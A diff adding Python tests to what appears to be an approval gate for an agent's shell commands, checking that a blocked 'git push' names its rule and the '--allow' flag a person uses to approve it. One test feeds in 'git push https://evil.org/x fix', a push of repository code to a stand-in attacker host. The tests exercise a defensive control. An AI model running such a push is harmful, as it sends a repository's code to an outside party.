@@ -167,3 +167,20 @@ def test_a_resume_answers_what_it_covers_and_leaves_the_rest(anywhere: Place) ->
 def test_a_mistake_is_one_line(repo: Place, text: str) -> None:
     ended: Ended = repo.play(SAY, words=("--allow", text))
     assert (ended.code, is_one_line(ended), "allow" in ended.err) == (2, True, True), ended
+
+
+def test_every_question_says_how_to_agree_for_good(repo: Place) -> None:
+    command = "git push https://evil.org/x fix"
+    ended = repo.play(bash(repo, command), SAY, words=("--run-id", "r"))
+    flag = "--allow git.push=git:https://evil.org/x/refs/heads/fix"
+    assert f"rule git.push; to agree for good: {flag}" in ended.out
+    assert f"to agree for good: {flag}\n" in repo.type("inbox", "--list").out
+    (entry,) = repo.type("inbox", "--list", "--json").rows
+    assert entry["agree"] == flag
+    assert repo.type("resume", "r", *flag.split()).code == 0
+
+
+def test_an_agent_that_nobody_answers_reads_how_a_person_agrees(repo: Place) -> None:
+    assert repo.play(bash(repo, "git push origin fix"), SAY, words=("--run-id", "r", "--on-ask", "deny")).code == 0
+    (call,) = show(repo)["calls"]
+    assert "a person allows it with --allow git.push=git:origin/refs/heads/fix" in call["reason"]
